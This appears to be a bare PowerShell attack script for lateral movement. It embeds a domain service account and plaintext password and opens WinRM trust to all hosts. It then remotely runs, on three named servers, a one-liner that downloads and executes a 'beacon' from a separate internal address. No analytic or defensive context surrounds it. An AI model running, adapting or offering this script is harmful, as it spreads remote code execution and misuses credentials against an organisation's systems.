$targets = 'fs02', 'sql03', 'app11'
$user = 'CORP\svc_backup'
$pass = ConvertTo-SecureString 'B@ckup!2023' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential($user, $pass)
$beacon = 'http://10.0.8.15:8080/b'

Set-Item WSMan:\localhost\Client\TrustedHosts -Value '*' -Force
foreach ($t in $targets) {
    Invoke-Command -ComputerName $t -Credential $cred -ScriptBlock {
        iex (New-Object Net.WebClient).DownloadString($beacon)
    }
}
